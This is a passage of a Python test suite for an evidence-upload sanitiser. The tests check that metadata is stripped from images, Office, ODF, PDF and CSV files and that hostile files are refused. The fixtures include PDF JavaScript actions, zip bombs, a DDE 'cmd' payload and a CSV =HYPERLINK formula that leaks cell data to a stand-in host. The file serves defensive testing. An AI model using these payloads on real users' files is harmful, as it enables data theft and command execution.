"""Evidence uploads: the shared copy carries no hidden metadata, and hostile files are refused.

Every fixture is built here, at test time, around one marker string (MARKER) planted in every
metadata field a real file would carry it in. The sanitised copy is then searched for the marker
in its raw bytes AND in every decompressed ZIP entry or PDF stream, re-opened with the library
that reads its format, and its report is checked. Hostile inputs (bombs, traversal, polyglots,
macros, encrypted files) must each give a ValidationError with a stable code, quickly; a small
mutation fuzz checks that damaged files give nothing else.
"""

from __future__ import annotations

import hashlib
import io
import logging
import random
import re
import struct
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from xml.etree import ElementTree

import pytest
from django.core.exceptions import ValidationError
from PIL import ExifTags, Image, ImageCms, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from palermo.submissions.attachments import ALLOWED, Sanitised, sanitise_attachment

pytestmark = pytest.mark.unit

MARKER = "Marker Author 7Q"
SAFE_NAME = re.compile(r"evidence-[0-9a-f]{8}\.(?:pdf|docx|odt|xlsx|csv|jpg|png)")
XMP_PACKET = (
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    f"<dc:creator><rdf:Seq><rdf:li>{MARKER}</rdf:li></rdf:Seq></dc:creator>"
    "</rdf:Description></rdf:RDF></x:xmpmeta>"
    '<?xpacket end="w"?>'
).encode()


@pytest.fixture(autouse=True)
def empty_cache() -> None:
    """Overrides the package conftest's cache-clearing fixture: these tests touch no database."""


# ---------------------------------------------------------------------------------------------
# Builders
# ---------------------------------------------------------------------------------------------


def _exif(*, orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Model] = "Model 7"
    exif[ExifTags.Base.Artist] = MARKER
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (38.0, 7.0, 1.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (13.0, 21.0, 40.0)
    return exif


def _picture(size: tuple[int, int] = (64, 48)) -> Image.Image:
    # Gradients, not a flat colour: re-encoding must have real detail to keep.
    across = Image.linear_gradient("L").rotate(90).resize(size)
    down = Image.linear_gradient("L").resize(size)
    return Image.merge("RGB", (across, down, Image.new("L", size, 128)))


def make_jpeg(*, size: tuple[int, int] = (64, 48), orientation: int = 6) -> bytes:
    out = io.BytesIO()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    _picture(size).save(
        out,
        "JPEG",
        exif=_exif(orientation=orientation),
        xmp=XMP_PACKET,
        comment=MARKER.encode(),
        icc_profile=icc,
    )
    return out.getvalue()


def make_png(*, text: str = MARKER) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", text)
    info.add_itxt("XML:com.adobe.xmp", XMP_PACKET.decode())
    out = io.BytesIO()
    _picture().convert("RGBA").save(out, "PNG", pnginfo=info, exif=_exif())
    return out.getvalue()


def header_only_png(width: int, height: int) -> bytes:
    """A valid PNG header declaring a huge image, with no pixel data worth decoding."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="jpeg" ContentType="image/jpeg"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-'
    'package.core-properties+xml"/>'
    '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.extended-properties+xml"/>'
    "</Types>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
CORE_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-'
    'properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/'
    'terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
    f"<dc:title>Report by {MARKER}</dc:title><dc:creator>{MARKER}</dc:creator>"
    f"<cp:lastModifiedBy>{MARKER}</cp:lastModifiedBy><cp:revision>4</cp:revision>"
    '<dcterms:created xsi:type="dcterms:W3CDTF">2024-03-01T10:00:00Z</dcterms:created>'
    "</cp:coreProperties>"
)
APP_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
    'properties"><Application>Microsoft Office Word</Application>'
    f"<Company>{MARKER} Ltd</Company><Manager>{MARKER}</Manager></Properties>"
)
CUSTOM_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
    'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Owner">'
    f"<vt:lpwstr>{MARKER}</vt:lpwstr></property></Properties>"
)


def _zip(entries: list[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are written on purpose in one test
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for index, (name, content) in enumerate(entries):
                info = zipfile.ZipInfo(name, date_time=(2024, 3, 1, 10, 0, 0))
                info.compress_type = (
                    zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
                )
                archive.writestr(info, content)
    return out.getvalue()


def docx_entries() -> list[tuple[str, bytes | str]]:
    return [
        ("[Content_Types].xml", CONTENT_TYPES_DOCX),
        (
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships {RELS}>'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        ),
        (
            "word/document.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:document {W} {R}><w:body>'
            "<w:p><w:r><w:t>The evidence text.</w:t></w:r></w:p>"
            f'<w:p><w:ins w:id="1" w:author="{MARKER}" w:date="2024-03-01T10:00:00Z"><w:r>'
            "<w:t>inserted</w:t></w:r></w:ins></w:p></w:body></w:document>",
        ),
        (
            "word/comments.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:comments {W}>'
            f'<w:comment w:id="0" w:author="{MARKER}" w:initials="MA7">'
            "<w:p><w:r><w:t>This comment is part of the evidence.</w:t></w:r></w:p>"
            "</w:comment></w:comments>",
        ),
        (
            "word/people.xml",
            '<?xml version="1.0" encoding="UTF-8"?><w15:people '
            'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
            f'<w15:person w15:author="{MARKER}"><w15:presenceInfo w15:providerId="AD" '
            'w15:userId="S::marker7q@example.org::1234"/></w15:person></w15:people>',
        ),
        (
            "word/_rels/settings.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships {RELS}>'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/attachedTemplate" Target="file:///C:\\Users\\{MARKER}\\AppData\\'
            'Roaming\\Microsoft\\Templates\\Normal.dotm" TargetMode="External"/></Relationships>',
        ),
        ("word/media/image1.jpeg", make_jpeg(orientation=1)),
        (
            "customXml/item1.xml",
            f"<CoverPageProperties><Company>{MARKER}</Company></CoverPageProperties>",
        ),
        ("docProps/core.xml", CORE_XML),
        ("docProps/app.xml", APP_XML),
        ("docProps/custom.xml", CUSTOM_XML),
    ]


def make_docx(extra: list[tuple[str, bytes | str]] | None = None) -> bytes:
    return _zip(docx_entries() + (extra or []))


def make_xlsx() -> bytes:
    content_types = CONTENT_TYPES_DOCX.replace(
        "/word/document.xml",
        "/xl/workbook.xml",
    ).replace("wordprocessingml.document.main", "spreadsheetml.sheet.main")
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return _zip(
        [
            ("[Content_Types].xml", content_types),
            (
                "_rels/.rels",
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships {RELS}>'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            ),
            (
                "xl/workbook.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><workbook {main} {R} '
                'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
                'xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac">'
                f'<fileSharing readOnlyRecommended="1" userName="{MARKER}"/>'
                '<mc:AlternateContent><mc:Choice Requires="x15">'
                f'<x15ac:absPath url="C:\\Users\\{MARKER}\\Documents\\"/></mc:Choice>'
                '</mc:AlternateContent><sheets><sheet name="Data" sheetId="1" r:id="rId1"/>'
                "</sheets></workbook>",
            ),
            (
                "xl/worksheets/sheet1.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><worksheet {main}><sheetData><row r="1">'
                '<c r="A1" t="inlineStr"><is><t>amount</t></is></c></row></sheetData></worksheet>',
            ),
            (
                "xl/comments1.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><comments {main}><authors>'
                f"<author>{MARKER}</author></authors><commentList>"
                '<comment ref="A1" authorId="0"><text><r><rPr><b/></rPr>'
                f'<t>{MARKER}:</t></r><r><t xml:space="preserve">check this</t></r></text>'
                "</comment></commentList></comments>",
            ),
            (
                "xl/persons/person.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><personList {main}>'
                f'<person displayName="{MARKER}" id="{{0A1B}}" userId="marker7q@example.org" '
                'providerId="AD"/></personList>',
            ),
            ("docProps/core.xml", CORE_XML),
            ("docProps/app.xml", APP_XML.replace("Word", "Excel")),
        ]
    )


ODF_OFFICE = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
ODF_NS = (
    f'{ODF_OFFICE} xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0"'
)


def odt_entries(
    mimetype: str = "application/vnd.oasis.opendocument.text",
) -> list[tuple[str, bytes | str]]:
    return [
        ("mimetype", mimetype),
        (
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
            'manifest:version="1.3"><manifest:file-entry manifest:full-path="/" '
            f'manifest:media-type="{mimetype}"/></manifest:manifest>',
        ),
        (
            "content.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS} '
            'office:version="1.3"><office:body><office:text><text:p>The evidence text.'
            f"<office:annotation><dc:creator>{MARKER}</dc:creator><dc:date>2024-03-01T10:00:00"
            "</dc:date><text:p>A comment that is evidence.</text:p></office:annotation>"
            "</text:p></office:text></office:body></office:document-content>",
        ),
        (
            "meta.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {ODF_NS} '
            f'office:version="1.3"><office:meta><meta:initial-creator>{MARKER}'
            f"</meta:initial-creator><dc:creator>{MARKER}</dc:creator>"
            "<meta:generator>LibreOffice/7.6</meta:generator>"
            f"<dc:title>Notes of {MARKER}</dc:title></office:meta></office:document-meta>",
        ),
        (
            "settings.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-settings {ODF_NS}>'
            '<office:settings><config:config-item-set config:name="ooo:configuration-settings">'
            '<config:config-item config:name="PrinterName" config:type="string">'
            f"HP at {MARKER}'s office</config:config-item>"
            "</config:config-item-set></office:settings></office:document-settings>",
        ),
        ("Pictures/photo.jpg", make_jpeg(orientation=1)),
    ]


def make_odt(extra: list[tuple[str, bytes | str]] | None = None, **kwargs: str) -> bytes:
    return _zip(odt_entries(**kwargs) + (extra or []), stored_first=True)


def _embedded_jpeg(writer: PdfWriter) -> StreamObject:
    jpeg = make_jpeg(size=(32, 32), orientation=1)
    image = DecodedStreamObject()
    image.set_data(jpeg)
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(32),
            NameObject("/Height"): NumberObject(32),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/DCTDecode"),
        }
    )
    return image


def make_pdf(*, encrypt: bool = False, prefix: bytes = b"") -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    image_ref = writer._add_object(_embedded_jpeg(writer))
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im1"): image_ref})}
    )
    contents = DecodedStreamObject()
    contents.set_data(b"q 100 0 0 100 10 10 cm /Im1 Do Q")
    page[NameObject("/Contents")] = writer._add_object(contents)

    def rect() -> ArrayObject:
        return ArrayObject([FloatObject(10), FloatObject(10), FloatObject(50), FloatObject(50)])

    js_link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect(),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject(" javascript:alert(1)"),
                }
            ),
        }
    )
    web_link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect(),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("https://example.org/report"),
                }
            ),
        }
    )
    comment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Text"),
            NameObject("/Rect"): rect(),
            NameObject("/T"): TextStringObject(MARKER),
            NameObject("/Contents"): TextStringObject("A comment that is evidence."),
            NameObject("/AA"): DictionaryObject(
                {
                    NameObject("/E"): DictionaryObject(
                        {
                            NameObject("/S"): NameObject("/JavaScript"),
                            NameObject("/JS"): TextStringObject("app.alert('hover')"),
                        }
                    )
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject(
        [writer._add_object(js_link), writer._add_object(web_link), writer._add_object(comment)]
    )
    page[NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/Illustrator"): TextStringObject(MARKER)}
    )
    writer.add_metadata({"/Author": MARKER, "/Title": f"Notes of {MARKER}", "/Creator": "Word"})
    writer.xmp_metadata = XMP_PACKET
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('opened')"),
        }
    )
    writer.add_attachment("notes.txt", f"written by {MARKER}".encode())
    if encrypt:
        writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    if prefix:
        # Insert a comment line right after the header: still a valid PDF for every reader.
        head, _, rest = data.partition(b"\n")
        data = head + b"\n" + prefix + b"\n" + rest
    return data


CSV_WITH_FORMULAS = (
    "name,link,amount\r\n"
    'Alice,"=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",-12.5\r\n'
    "Bob,+cmd|' /C calc'!A0,@SUM(1+1)\r\n"
    "Carol,\tdata,+39\r\n"
)


# ---------------------------------------------------------------------------------------------
# Assertions
# ---------------------------------------------------------------------------------------------


@contextmanager
def quickly(limit: float = 1.0) -> Iterator[None]:
    start = time.perf_counter()
    yield
    elapsed = time.perf_counter() - start
    assert elapsed < limit, f"took {elapsed:.2f}s"


def refused(data: bytes, code: str, **limits: int) -> ValidationError:
    with quickly(), pytest.raises(ValidationError) as caught:
        sanitise_attachment(data, **limits)
    assert caught.value.code == code, caught.value.code
    assert str(caught.value.messages[0])  # a translated sentence, not an empty string
    return caught.value


def marker_variants() -> list[bytes]:
    return [MARKER.encode(), MARKER.encode("utf-16-be"), MARKER.encode("utf-16-le")]


def assert_no_marker_in_bytes(data: bytes) -> None:
    for variant in marker_variants():
        assert variant not in data


def zip_entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {info.filename: archive.read(info) for info in archive.infolist()}


def assert_clean_zip(data: bytes) -> dict[str, bytes]:
    assert_no_marker_in_bytes(data)
    entries = zip_entries(data)
    for name, content in entries.items():
        assert_no_marker_in_bytes(content)
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(content)  # still well-formed
        if content.startswith((b"\xff\xd8", b"\x89PNG")):
            with Image.open(io.BytesIO(content)) as picture:
                picture.load()
                assert not picture.getexif()
    return entries


def assert_common(result: Sanitised, data: bytes, kind: str) -> None:
    assert result.kind == kind and kind in ALLOWED
    assert result.original_sha256 == hashlib.sha256(data).hexdigest()
    assert result.clean_sha256 == hashlib.sha256(result.clean).hexdigest()
    assert SAFE_NAME.fullmatch(result.safe_filename)
    assert set(result.removed_metadata) <= set(result.found_metadata)


# ---------------------------------------------------------------------------------------------
# Images
# ---------------------------------------------------------------------------------------------


def test_jpeg_loses_exif_gps_xmp_icc_and_keeps_its_resolution_upright() -> None:
    data = make_jpeg(size=(64, 48), orientation=6)
    result = sanitise_attachment(data, original_name="IMG_0001.JPG")
    assert_common(result, data, "jpeg")
    assert result.content_type == "image/jpeg"
    assert_no_marker_in_bytes(result.clean)
    for label in ("EXIF", "GPS position", "camera make and model", "XMP", "ICC profile", "comment"):
        assert label in result.removed_metadata
    with Image.open(io.BytesIO(result.clean)) as image:
        assert image.format == "JPEG"
        # Orientation 6 (rotate 90°) is baked into the pixels: 64x48 becomes 48x64, not shrunk.
        assert image.size == (48, 64)
        assert not image.getexif()
        assert not {"exif", "xmp", "icc_profile", "comment"} & set(image.info)


def test_png_loses_text_chunks_xmp_and_exif() -> None:
    data = make_png()
    result = sanitise_attachment(data)
    assert_common(result, data, "png")
    assert_no_marker_in_bytes(result.clean)
    assert {"EXIF", "GPS position", "XMP", "PNG text chunks"} <= set(result.removed_metadata)
    with Image.open(io.BytesIO(result.clean)) as image:
        image.load()
        assert image.size == (64, 48) and image.mode == "RGBA"
        assert not image.getexif() and not getattr(image, "text", {})


def test_a_large_photo_keeps_its_full_resolution() -> None:
    data = make_jpeg(size=(3000, 2000), orientation=1)
    result = sanitise_attachment(data)
    with Image.open(io.BytesIO(result.clean)) as image:
        assert image.size == (3000, 2000)


def test_pixel_flood_is_refused_from_the_header() -> None:
    refused(header_only_png(50_000, 50_000), "too_many_pixels")
    refused(make_jpeg(size=(200, 200)), "too_many_pixels", max_pixels=10_000)


# ---------------------------------------------------------------------------------------------
# Office documents
# ---------------------------------------------------------------------------------------------


def test_docx_properties_authors_paths_and_photo_metadata_are_removed() -> None:
    data = make_docx()
    assert MARKER.encode() in b"".join(zip_entries(data).values())  # the fixture does carry it
    result = sanitise_attachment(data, original_name="report.docx")
    assert_common(result, data, "docx")
    entries = assert_clean_zip(result.clean)
    assert list(entries) == [name for name, _ in docx_entries()]  # every part kept, in order
    for label in (
        "author",
        "last modified by",
        "document title",
        "company",
        "manager",
        "creation tool",
        "custom properties",
        "custom XML data",
        "names of comment and revision authors",
        "user accounts of comment authors",
        "file paths from the author's computer",
        "file timestamps inside the document",
        "GPS position (in an embedded picture)",
    ):
        assert label in result.removed_metadata, label
    # Comments and tracked changes may be the evidence: reported, kept, authors pseudonymised.
    assert "comments" in result.found_metadata and "comments" not in result.removed_metadata
    assert "tracked changes" in result.found_metadata
    assert b"This comment is part of the evidence." in entries["word/comments.xml"]
    assert b'w:author="Author 1"' in entries["word/comments.xml"]
    assert b'w:author="Author 1"' in entries["word/document.xml"]  # same person, same alias
    assert b"Normal.dotm" in entries["word/_rels/settings.xml.rels"]
    core = ElementTree.fromstring(entries["docProps/core.xml"])
    assert core.tag.endswith("coreProperties") and len(core) == 0
    with zipfile.ZipFile(io.BytesIO(result.clean)) as archive:
        assert all(info.date_time == (1980, 1, 1, 0, 0, 0) for info in archive.infolist())


def test_tiff_and_webp_pictures_inside_a_document_are_cleaned_too() -> None:
    pictures = []
    for fmt in ("TIFF", "WEBP"):
        out = io.BytesIO()
        _picture().save(out, fmt, exif=_exif(orientation=1))
        assert MARKER.encode() in out.getvalue()
        pictures.append((f"word/media/picture.{fmt.lower()}", out.getvalue()))
    result = sanitise_attachment(make_docx(pictures))
    entries = assert_clean_zip(result.clean)
    for name, _ in pictures:
        with Image.open(io.BytesIO(entries[name])) as picture:
            # A TIFF's own structure lives in the same tag table as EXIF: check the personal tags.
            tags = picture.getexif()
            assert picture.size == (64, 48) and not tags.get_ifd(ExifTags.IFD.GPSInfo)
            assert not {ExifTags.Base.Artist, ExifTags.Base.Make, ExifTags.Base.Model} & set(tags)


def test_xlsx_properties_path_user_and_comment_authors_are_removed() -> None:
    data = make_xlsx()
    result = sanitise_attachment(data, original_name="data.xlsx")
    assert_common(result, data, "xlsx")
    entries = assert_clean_zip(result.clean)
    assert {
        "author",
        "company",
        "file location on the author's computer",
        "user name",
        "names of comment and revision authors",
    } <= set(result.removed_metadata)
    assert b"<author>Author 1</author>" in entries["xl/comments1.xml"]
    assert b"<t>Author 1:</t>" in entries["xl/comments1.xml"]
    assert b'providerId="None"' in entries["xl/persons/person.xml"]
    assert b"<sheet " in entries["xl/workbook.xml"]


def test_odt_meta_printer_and_annotation_author_are_removed() -> None:
    data = make_odt()
    result = sanitise_attachment(data, original_name="notes.odt")
    assert_common(result, data, "odt")
    assert result.content_type == "application/vnd.oasis.opendocument.text"
    entries = assert_clean_zip(result.clean)
    with zipfile.ZipFile(io.BytesIO(result.clean)) as archive:
        first = archive.infolist()[0]
        assert first.filename == "mimetype" and first.compress_type == zipfile.ZIP_STORED
    assert result.clean[30:38] == b"mimetype"  # readable at its fixed offset, as ODF requires
    assert entries["mimetype"] == b"application/vnd.oasis.opendocument.text"
    assert {"author", "last modified by", "document title", "creation tool"} <= set(
        result.removed_metadata
    )
    assert "printer name and settings" in result.removed_metadata
    assert "GPS position (in an embedded picture)" in result.removed_metadata
    assert "comments" in result.found_metadata
    assert b"A comment that is evidence." in entries["content.xml"]
    meta = ElementTree.fromstring(entries["meta.xml"])
    assert [child.tag.rsplit("}", 1)[-1] for child in meta] == ["meta"] and len(meta[0]) == 0


# ---------------------------------------------------------------------------------------------
# PDF
# ---------------------------------------------------------------------------------------------


def _all_pdf_streams(data: bytes) -> Iterator[bytes]:
    reader = PdfReader(io.BytesIO(data))
    for number in range(1, reader.trailer["/Size"]):
        try:
            obj = reader.get_object(number)
        except Exception:
            continue
        if isinstance(obj, StreamObject):
            yield obj.get_data()


def test_pdf_info_xmp_javascript_attachments_and_comment_authors_are_removed() -> None:
    data = make_pdf()
    assert MARKER.encode() in data
    result = sanitise_attachment(data, original_name="scan.pdf")
    assert_common(result, data, "pdf")
    assert result.content_type == "application/pdf"
    assert_no_marker_in_bytes(result.clean)
    for stream in _all_pdf_streams(result.clean):
        assert_no_marker_in_bytes(stream)
    for label in (
        "PDF info dictionary",
        "author",
        "document title",
        "XMP",
        "JavaScript",
        "embedded files",
        "links that run scripts or start programs",
        "automatic actions (JavaScript triggers)",
        "application private data",
        "names of comment and revision authors",
        "EXIF (in an embedded picture)",
        "GPS position (in an embedded picture)",
    ):
        assert label in result.removed_metadata, label
    assert "comments" in result.found_metadata
    reader = PdfReader(io.BytesIO(result.clean))
    assert len(reader.pages) == 1
    assert not reader.metadata and reader.xmp_metadata is None
    for forbidden in (b"/JavaScript", b"/JS", b"/OpenAction", b"/EmbeddedFile", b"javascript:"):
        assert forbidden not in result.clean
    annotations = [a.get_object() for a in reader.pages[0]["/Annots"]]
    assert [str(a["/Subtype"]) for a in annotations] == ["/Link", "/Text"]  # web link kept
    assert annotations[1]["/Contents"] == "A comment that is evidence."
    # The picture inside is still a JPEG that decodes, now without EXIF.
    image = next(iter(reader.pages[0].images))
    assert image.image is not None and image.image.size == (32, 32)


def test_pdf_internal_links_and_web_links_still_work() -> None:
    from pypdf.annotations import Link
    from pypdf.generic import Fit

    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=200, height=200)
    writer.add_annotation(0, Link(rect=(10, 10, 50, 50), target_page_index=2, fit=Fit.fit()))
    writer.add_annotation(1, Link(rect=(10, 10, 50, 50), url="https://example.org/"))
    out = io.BytesIO()
    writer.write(out)
    result = sanitise_attachment(out.getvalue())
    reader = PdfReader(io.BytesIO(result.clean))
    link = reader.pages[0]["/Annots"][0].get_object()
    assert reader.get_page_number(link["/Dest"][0].get_object()) == 2
    web = reader.pages[1]["/Annots"][0].get_object()
    assert web["/A"]["/URI"] == "https://example.org/"
    assert b"/Producer" not in result.clean  # not even pypdf's own name


def test_a_damaged_pdf_does_not_leak_its_content_into_the_logs(
    caplog: pytest.LogCaptureFixture,
) -> None:
    # A wrong startxref and a broken key make pypdf recover, and log excerpts of the bytes.
    data = re.sub(rb"startxref\n\d+", b"startxref\n1", make_pdf()).replace(
        b"/Author", b"\x80Author"
    )
    caplog.set_level(logging.DEBUG)
    with suppress(ValidationError):
        sanitise_attachment(data)
    assert not [record for record in caplog.records if MARKER in record.getMessage()]


def test_encrypted_pdf_is_refused() -> None:
    refused(make_pdf(encrypt=True), "encrypted")


# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------


def test_csv_formulas_are_neutralised_and_text_normalised() -> None:
    data = "\ufeff".encode() + CSV_WITH_FORMULAS.encode()
    result = sanitise_attachment(data, original_name="list.csv")
    assert_common(result, data, "csv")
    assert result.content_type == "text/csv; charset=utf-8"
    assert "formulas neutralised" in result.removed_metadata
    assert not result.clean.startswith(b"\xef\xbb\xbf")
    import csv

    rows = list(csv.reader(io.StringIO(result.clean.decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert rows[1][1].startswith("'=HYPERLINK(")
    assert rows[2][1] == "'+cmd|' /C calc'!A0" and rows[2][2] == "'@SUM(1+1)"
    assert rows[3][1] == "'\tdata"
    assert rows[1][2] == "-12.5" and rows[3][2] == "+39"  # plain numbers stay numbers
    assert not [c for c in cells if c[:1] in "=+-@\t\r" and not re.fullmatch(r"[+-][\d.]+", c)]


def test_semicolon_csv_is_accepted_and_keeps_its_separator() -> None:
    result = sanitise_attachment(b"a;b;c\n1;2;3\n")
    assert result.kind == "csv" and result.clean == b"a;b;c\r\n1;2;3\r\n"
    assert result.found_metadata == [] and result.removed_metadata == []


@pytest.mark.parametrize(
    ("data", "code"),
    [
        ("caf\xe9,th\xe9\n1,2\n".encode("latin-1"), "unsupported_type"),  # not UTF-8
        (b"just one column\nno separators here\n", "invalid_csv"),
        (b"%PDF-like text, but, not a pdf\n", "damaged"),  # starts with the PDF magic
        (b"name,note\nx,<script>alert(1)</script>\n", "polyglot"),
    ],
)
def test_text_that_is_not_a_clean_csv_is_refused(data: bytes, code: str) -> None:
    refused(data, code)


# ---------------------------------------------------------------------------------------------
# Hostile inputs
# ---------------------------------------------------------------------------------------------


def _zip_with_zeros(size: int, *, docx: bool) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if docx:
            for name, content in docx_entries():
                archive.writestr(name, content)
        with archive.open("word/media/zeros.bin" if docx else "zeros.bin", "w") as entry:
            block = bytes(1 << 20)
            for _ in range(size >> 20):
                entry.write(block)
    return out.getvalue()


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    return _zip_with_zeros(100_000_000, docx=False)


@pytest.fixture(scope="module")
def docx_bomb() -> bytes:
    return _zip_with_zeros(100_000_000, docx=True)


def test_zip_bombs_are_refused_before_inflating(zip_bomb: bytes, docx_bomb: bytes) -> None:
    assert len(zip_bomb) < 200_000
    refused(zip_bomb, "zip_bomb")
    refused(docx_bomb, "zip_bomb")


def test_zip_bomb_within_the_ratio_but_over_the_total_is_refused() -> None:
    data = make_docx([("word/media/big.bin", random.Random(1).randbytes(600_000))])
    refused(data, "zip_bomb", max_unzipped_bytes=500_000)


def _patch_central_directory(data: bytes, name: bytes, **fields: int) -> bytes:
